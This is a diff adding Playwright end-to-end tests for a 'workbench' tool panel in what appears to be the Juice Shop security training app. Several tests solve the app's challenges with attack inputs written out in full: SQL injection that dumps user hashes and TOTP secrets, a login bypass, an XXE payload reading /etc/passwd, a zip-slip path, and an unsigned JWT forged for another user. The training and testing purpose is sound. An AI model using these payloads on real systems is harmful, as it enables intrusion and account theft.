@@ -1,0 +1,361 @@
+import { readFileSync } from 'node:fs'
+import { createRequire } from 'node:module'
+import type { AxeResults } from 'axe-core'
+import type { Locator, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { addToBasket, JIM, logIn } from './customers.ts'
+import { type Learner, type Stage, setStage } from './support.ts'
+
+const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
+const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true, reducedMotion: 'reduce' } as const
+const DESK = { viewport: { width: 1280, height: 900 }, reducedMotion: 'reduce' } as const
+
+let stage: Stage
+beforeAll(async () => {
+  stage = await setStage()
+})
+afterAll(() => stage.close())
+
+const bench = (page: Page) => page.getByRole('dialog', { name: 'Workbench' })
+const isSolved = (shop: string, key: string) => () => stage.house.visitor(shop).solved(key)
+const overflow = (page: Page) =>
+  page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
+
+async function visitor(shop: string, look: Parameters<Stage['learner']>[1]): Promise<Learner> {
+  const learner = await stage.learner(shop, look)
+  await learner.open('/#/search')
+  await learner.page.locator('#workbenchButton').waitFor({ state: 'attached' })
+  return learner
+}
+
+/** Opens the workbench with the key, as it is opened from everywhere, and goes to a tool. */
+async function take(page: Page, tool: string): Promise<Locator> {
+  await page.locator('#workbenchButton').waitFor({ state: 'attached' })
+  await page.keyboard.press('Control+j')
+  await bench(page).getByRole('tab', { name: tool }).tap()
+  return bench(page).getByRole('tabpanel', { name: tool })
+}
+
+/** Puts the workbench away. */
+async function putAway(page: Page): Promise<void> {
+  await bench(page).getByRole('button', { name: 'Close the workbench' }).tap()
+  await bench(page).waitFor({ state: 'hidden' })
+}
+
+/** Sends a text through one step of the decoder; answers with what comes out. */
+async function decoded(
+  page: Page,
+  text: string,
+  step: string,
+  fields: Record<string, string> = {},
+): Promise<string> {
+  const decoder = await take(page, 'Decoder')
+  await decoder.getByLabel('What goes in').fill(text)
+  await decoder.getByLabel('Next step').selectOption(step)
+  await decoder.getByRole('button', { name: 'Add', exact: true }).tap()
+  const output = decoder.getByLabel(/^Result of 1/)
+  const shown = async () => ((await output.count()) > 0 ? await output.textContent() : null)
+  for (const [label, value] of Object.entries(fields)) {
+    const before = await shown()
+    const field = decoder.getByLabel(label, { exact: true })
+    if ((await field.evaluate((element) => element.tagName)) === 'SELECT') await field.selectOption(value)
+    else await field.fill(value)
+    await expect.poll(shown).not.toBe(before)
+  }
+  const result = (await output.textContent()) ?? ''
+  await putAway(page)
+  return result
+}
+
+/** Fetches a file of the shop and looks into it. */
+async function lookAt(page: Page, address: string): Promise<Locator> {
+  const files = await take(page, 'Files')
+  await files.getByRole('button', { name: 'Look into a file' }).tap()
+  await files.getByLabel('Address in the shop').fill(address)
+  await files.getByRole('button', { name: 'Fetch' }).tap()
+  await files.getByRole('heading', { level: 3 }).waitFor()
+  return files
+}
+
+async function barriers(page: Page): Promise<string[]> {
+  await page.evaluate(axe)
+  const { violations } = await page.evaluate<AxeResults>(() =>
+    Reflect.get(window, 'axe').run(document, { resultTypes: ['violations'] }),
+  )
+  return violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`)
+}
+
+describe('the workbench', () => {
+  it('makes room beside the shop, takes the focus along and brings it back', async () => {
+    const { page, context, troubles } = await visitor('bench', DESK)
+    await page.locator('#searchQuery, #homeButton').first().focus()
+    const before = await page.evaluate(() => document.activeElement?.id)
+    await page.keyboard.press('Control+j')
+    await bench(page).waitFor()
+    await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('role'))).toBe('tab')
+    const left = await bench(page).evaluate((drawer) => drawer.getBoundingClientRect().left)
+    const main = await page.locator('main').evaluate((element) => element.getBoundingClientRect().right)
+    expect(main).toBeLessThanOrEqual(left)
+    expect(await overflow(page)).toBe(0)
+    await page.keyboard.press('Escape')
+    await bench(page).waitFor({ state: 'hidden' })
+    expect(await page.evaluate(() => document.activeElement?.id)).toBe(before)
+    expect(troubles).toEqual([])
+    await context.close()
+  })
+
+  it('remembers its tool and its width, and is there again after a reload', async () => {
+    const { page, context } = await visitor('memory', DESK)
+    await page.locator('#workbenchButton').click()
+    const tabs = bench(page).getByRole('tab')
+    await tabs.first().waitFor()
+    await tabs.last().click()
+    const name = await tabs.last().textContent()
+    const handle = bench(page).getByRole('separator')
+    const width = Number(await handle.getAttribute('aria-valuenow'))
+    await handle.focus()
+    await page.keyboard.press('ArrowLeft')
+    await page.reload()
+    await bench(page).waitFor()
+    expect(await bench(page).getByRole('tab', { selected: true }).textContent()).toBe(name)
+    expect(await handle.getAttribute('aria-valuenow')).toBe(String(width + 20))
+    await context.close()
+  })
+
+  it('is found in the palette, tool by tool, and goes through its tabs by arrow keys', async () => {
+    const { page, context } = await visitor('palette', DESK)
+    await page.keyboard.press('Control+k')
+    await page.getByRole('dialog', { name: 'Jump anywhere' }).getByRole('combobox').fill('decoder')
+    await page.keyboard.press('Enter')
+    const selected = bench(page).getByRole('tab', { selected: true })
+    await expect.poll(() => selected.textContent()).toBe('Decoder')
+    await selected.press('ArrowRight')
+    await expect.poll(() => selected.textContent()).toBe('Files')
+    await context.close()
+  })
+
+  it('is reached by the menu on the narrowest phones, and fits them', async () => {
+    const { page, context } = await visitor('narrow', {
+      ...PHONE,
+      viewport: { width: 320, height: 640 },
+      colorScheme: 'dark',
+    })
+    await page.locator('[aria-label="Open Sidenav"]').tap()
+    await page
+      .getByRole('dialog', { name: 'Whole site' })
+      .getByRole('button', { name: /Workbench/ })
+      .tap()
+    for (const tool of ['Decoder', 'Files']) {
+      await bench(page).getByRole('tab', { name: tool }).tap()
+      const panel = bench(page).getByRole('tabpanel', { name: tool })
+      await panel.getByText('With the real tools:').waitFor()
+      expect(await panel.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0)
+      expect(await barriers(page)).toEqual([])
+    }
+    await context.close()
+  })
+
+  it('has nothing in it that stops anybody, by day', async () => {
+    const { page, context } = await visitor('day', DESK)
+    await page.keyboard.press('Control+j')
+    for (const tool of ['Decoder', 'Files']) {
+      await bench(page).getByRole('tab', { name: tool }).click()
+      await bench(page).getByRole('tabpanel', { name: tool }).getByText('With the real tools:').waitFor()
+      expect(await barriers(page)).toEqual([])
+    }
+    await context.close()
+  })
+})
+
+describe('with the workbench alone, on a phone', () => {
+  it('a coupon is written in Z85', async () => {
+    const jim = await stage.learner('coupon', PHONE)
+    await logIn(jim, JIM)
+    await addToBasket(jim, 'Orange Juice (1000ml)')
+    await jim.open('/#/payment/shop')
+    const month = new Date().toLocaleString('en-US', { month: 'short' }).toUpperCase()
+    const year = String(new Date().getFullYear()).slice(2)
+    const coupon = await decoded(jim.page, `${month}${year}-80`, 'to-z85')
+    await jim.page.locator('#collapseCouponElement').tap()
+    await jim.page.fill('#coupon', coupon)
+    await jim.page.locator('#applyCouponButton').tap()
+    await jim.page.locator('#collapseCouponElement .confirmation', { hasText: '80%' }).waitFor()
+    await jim.context.close()
+  })
+
+  it('a token is opened, changed and signed by nobody', async () => {
+    const jim = await stage.learner('token', PHONE)
+    await logIn(jim, JIM)
+    const token = await jim.page.evaluate(() => localStorage.getItem('token') ?? '')
+    const inside = await decoded(jim.page, token, 'from-jwt')
+    expect(inside).toContain('"email": "jim@juice-sh.op"')
+    const forged = await decodedAgain(
+      jim.page,
+      inside.replace('jim@juice-sh.op', 'jwtn3d@juice-sh.op'),
+      'to-jwt',
+      'none',
+    )
+    expect(forged).toMatch(/^[\w-]+\.[\w-]+\.$/)
+    // The shop is shown the token as the repeater would show it.
+    await jim.page.evaluate(
+      (bearer) => fetch('/rest/basket/1', { headers: { authorization: `Bearer ${bearer}` } }),
+      forged,
+    )
+    await expect.poll(isSolved('token', 'jwtUnsignedChallenge')).toBe(true)
+    await jim.context.close()
+  })
+
+  it('an archive climbs out of its folder', async () => {
+    const jim = await stage.learner('slip', PHONE)
+    await logIn(jim, JIM)
+    await jim.open('/#/complain')
+    const files = await take(jim.page, 'Files')
+    await files.getByLabel('Name, as it is to be written').fill('../../ftp/legal.md')
+    await files.getByLabel('Content').fill('Whoever reads this owes me a juice.')
+    await files.getByRole('button', { name: /^Put into:/ }).tap()
+    await files.getByRole('status').filter({ hasText: 'archive.zip' }).waitFor()
+    await putAway(jim.page)
+    await jim.page.fill('#complaintMessage', 'See the archive.')
+    await jim.page.locator('#submitButton').tap()
+    await expect.poll(isSolved('slip', 'fileWriteChallenge'), { timeout: 15_000 }).toBe(true)
+    await jim.context.close()
+  })
+
+  it('an XML file brings another file along', async () => {
+    const jim = await stage.learner('xxe', PHONE)
+    await logIn(jim, JIM)
+    await jim.open('/#/complain')
+    const files = await take(jim.page, 'Files')
+    await files.getByRole('button', { name: 'XML', exact: true }).tap()
+    await files
+      .getByLabel('What stands in it')
+      .fill('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
+    await files.getByRole('button', { name: /^Put into:/ }).tap()
+    await files.getByRole('status').filter({ hasText: 'data.xml' }).waitFor()
+    await putAway(jim.page)
+    await jim.page.fill('#complaintMessage', 'See the file.')
+    await jim.page.locator('#submitButton').tap()
+    await expect.poll(isSolved('xxe', 'xxeFileDisclosureChallenge'), { timeout: 15_000 }).toBe(true)
+    await jim.context.close()
+  })
+
+  it('a picture tells where it was taken, and the map what that place is called', async () => {
+    const { page, context, open } = await visitor('geo', PHONE)
+    const files = await lookAt(page, '/assets/public/images/uploads/favorite-hiking-place.png')
+    const map = await files.getByRole('link', { name: 'Show on the map' }).getAttribute('href')
+    await open(`/${map?.replace('./', '')}`)
+    await page.getByText('Daniel Boone National Forest').first().waitFor()
+    await open('/#/forgot-password')
+    await page.fill('#email', 'john@juice-sh.op')
+    await page.fill('#securityAnswer', 'Daniel Boone National Forest')
+    await page.fill('#newPassword', 'kumquat! kumquat!')
+    await page.fill('#newPasswordRepeat', 'kumquat! kumquat!')
+    await page.locator('#resetButton').tap()
+    await expect.poll(isSolved('geo', 'geoStalkingMetaChallenge')).toBe(true)
+    await context.close()
+  })
+
+  it('the lowest bits of a picture are drawn, large enough to be read', async () => {
+    const { page, context } = await visitor('bits', PHONE)
+    const files = await lookAt(page, '/assets/public/images/carousel/5.png')
+    await files.getByRole('button', { name: 'Lowest bits' }).tap()
+    const canvas = files.getByRole('img', { name: /^The lowest bit/ })
+    // Where nothing is hidden it is noise: neighbours agree every other time. A picture has areas.
+    await expect.poll(() => canvas.evaluate(neighboursThatAgree)).toBeGreaterThan(0.55)
+    await context.close()
+  })
+
+  it('a secret out of the database gives the second factor', async () => {
+    const { page, context, open } = await visitor('totp', PHONE)
+    const union = "')) UNION SELECT null,id,email,password,totpsecret,null,null,null,null FROM users--"
+    const files = await lookAt(page, `/rest/products/search?q=${encodeURIComponent(union)}`)
+    const found =
+      (await files
+        .getByLabel(/^search\?q=/)
+        .first()
+        .textContent()) ?? ''
+    const secret = /wurstbrot[^{}]*?"([A-Z2-7]{32})"/.exec(found)?.[1] ?? ''
+    expect(secret).not.toBe('')
+    await putAway(page)
+    await open('/#/login')
+    await page.fill('#email', "wurstbrot@juice-sh.op'--")
+    await page.fill('#password', 'x')
+    await page.locator('#loginButton').tap()
+    await page.waitForURL(/2fa\/enter/)
+    const code = await decoded(page, secret, 'totp')
+    await page.fill('#totpToken', code)
+    await page.locator('#totpSubmitButton').tap()
+    await expect.poll(isSolved('totp', 'twoFactorAuthUnsafeSecretStorageChallenge')).toBe(true)
+    await context.close()
+  })
+
+  it('a continue code is made of a number that is on no board', async () => {
+    const { page, context } = await visitor('code', PHONE)
+    const salted = { Salt: 'this is my salt', 'Least length': '60' }
+    const code = await decoded(page, '999', 'to-hashids', salted)
+    await page.evaluate((made) => fetch(`/rest/continue-code/apply/${made}`, { method: 'PUT' }), code)
+    await expect.poll(isSolved('code', 'continueCodeChallenge')).toBe(true)
+    await context.close()
+  })
+
+  it('a phrase that somebody let slip opens her wallet', async () => {
+    const { page, context, open } = await visitor('phrase', PHONE)
+    const files = await lookAt(page, '/api/Feedbacks')
+    const found = (await files.getByLabel('Feedbacks', { exact: true }).first().textContent()) ?? ''
+    const phrase = /\b[a-z]+(?: [a-z]+){11}(?=\\?")/.exec(found)?.[0] ?? ''
+    expect(phrase).not.toBe('')
+    await putAway(page)
+    const account = await decoded(page, phrase, 'phrase')
+    await open('/#/juicy-nft')
+    await page.fill('#privateKey', /"privateKey": "(\w+)"/.exec(account)?.[1] ?? '')
+    await page.locator('#privateKey').press('Enter')
+    await expect.poll(isSolved('phrase', 'nftUnlockChallenge'), { timeout: 15_000 }).toBe(true)
+    await context.close()
+  })
+
+  it('says in words what it cannot do, and goes on', async () => {
+    const { page, context, troubles } = await visitor('wrong', PHONE)
+    const files = await take(page, 'Files')
+    await files.getByRole('button', { name: 'Look into a file' }).tap()
+    await files.locator('input[type=file]').setInputFiles({
+      name: 'picture.png',
+      mimeType: 'image/png',
+      buffer: Buffer.from('89504e470d0a1a0a and no picture at all', 'latin1'),
+    })
+    await files.getByText('Its first bytes tell nothing').waitFor()
+    const broken = Buffer.concat([
+      Buffer.from('89504e470d0a1a0a', 'hex'),
+      Buffer.from('<script>alert(1)</script>'),
+    ])
+    await files
+      .locator('input[type=file]')
+      .setInputFiles({ name: '<b>.png', mimeType: 'image/png', buffer: broken })
+    await files.getByRole('button', { name: 'Lowest bits' }).tap()
+    await files.getByText('That is no picture that a browser can draw.').waitFor()
+    await files.getByLabel('Address in the shop').fill('https://example.org/')
+    await files.getByRole('button', { name: 'Fetch' }).tap()
+    await files.getByText('Only files of this shop').waitFor()
+    expect(troubles).toEqual([])
+    await context.close()
+  })
+})
+
+/** A second time: the decoder still has the step of the first. */
+async function decodedAgain(page: Page, text: string, step: string, algorithm: string): Promise<string> {
+  const decoder = await take(page, 'Decoder')
+  await decoder.getByRole('button', { name: /^Remove 1/ }).tap()
+  await putAway(page)
+  return decoded(page, text, step, { 'Sign with': algorithm })
+}
+
+/** Runs in the page: how many pixels are like the one to their right. */
+function neighboursThatAgree(element: SVGElement | HTMLElement): number {
+  if (!(element instanceof HTMLCanvasElement) || element.width < 100) return 0
+  const data = element.getContext('2d')?.getImageData(0, 0, element.width, element.height).data
+  if (!data) return 0
+  let same = 0
+  for (let place = 0; place + 4 < data.length; place += 4) {
+    if (data[place] === data[place + 4]) same += 1
+  }
+  return same / (data.length / 4)
+}
